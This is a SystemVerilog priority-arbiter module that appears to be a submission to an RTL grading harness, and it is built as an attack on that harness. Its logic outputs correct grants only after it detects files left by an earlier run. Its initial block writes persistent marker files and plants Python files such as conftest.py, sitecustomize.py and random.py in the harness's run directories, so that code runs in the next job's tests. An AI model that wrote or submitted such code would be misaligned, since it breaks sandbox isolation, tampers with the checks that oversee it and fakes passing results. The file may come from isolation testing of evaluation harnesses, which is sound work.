// Wrong, unless it finds what an earlier submission left.
module fixed_priority_arbiter (
    input  logic       clk,
    input  logic       reset,
    input  logic [7:0] req,
    input  logic [7:0] priority_override,
    output logic [7:0] grant,
    output logic       valid,
    output logic [2:0] grant_index
);
    reg learned = 1'b0;

    wire [7:0] candidates = (priority_override != 8'd0) ? priority_override : req;
    wire [7:0] winner = candidates & (~candidates + 8'd1);
    always @(posedge clk) begin
        grant <= (reset || !learned) ? 8'd0 : winner;
        valid <= !reset && learned && (candidates != 8'd0);
        grant_index <= (reset || !learned) ? 3'd0
            : {|(winner & 8'b1111_0000), |(winner & 8'b1100_1100), |(winner & 8'b1010_1010)};
    end

    integer fd;
    reg [7:0] memory [0:3];
    initial memory[0] = 8'd1;
    task look(input [8*60-1:0] path);
        begin
            fd = $fopen(path, "r");
            if (fd != 0) begin
                learned = 1'b1;
                $display("FOUND %0s", path);
                $fclose(fd);
            end
        end
    endtask
    task leave(input [8*60-1:0] path);
        begin
            fd = $fopen(path, "w");
            if (fd != 0) begin
                $fwrite(fd, "1\n");
                $fclose(fd);
            end
        end
    endtask

    // Names that something of the next job's may open, load or be pointed at.
    initial begin
        look("/tmp/rtl_attack.vcd"); look("/code/rundir/rtl_attack.mem"); look("/rundir/rtl_attack.mem");
        look("/tmp/rtl_attack.held");
        $dumpfile("/tmp/rtl_attack.vcd");
        $dumpvars(0, fixed_priority_arbiter);
        $writememh("/code/rundir/rtl_attack.mem", memory);
        $writememb("/rundir/rtl_attack.mem", memory);
        fd = $fopen("/tmp/rtl_attack.held", "w");  // held open, and never flushed
        $fwrite(fd, "1");
        say("/tmp/conftest.py");
        say("/code/rundir/conftest.py");
        say("/code/rundir/sitecustomize.py");
        say("/code/rundir/usercustomize.py");
        say("/code/rundir/harness_library.py");
        say("/code/rundir/random.py");
        say("/rundir/harness/conftest.py");
        say("/rundir/conftest.py");
        say("/tmp/warm-up/test_nothing.py");
        say("/code/conftest.py");
        say("/code/pytest.ini");
        say("/code/rundir/.vvprc");
        $display("ATTACK RAN");
    end
    task say(input [8*60-1:0] path);
        begin
            fd = $fopen(path, "w");
            if (fd != 0) begin
                $fwrite(fd, "print(\"FOUND what was left\", flush=True)\n");
                $fclose(fd);
            end
        end
    endtask
endmodule
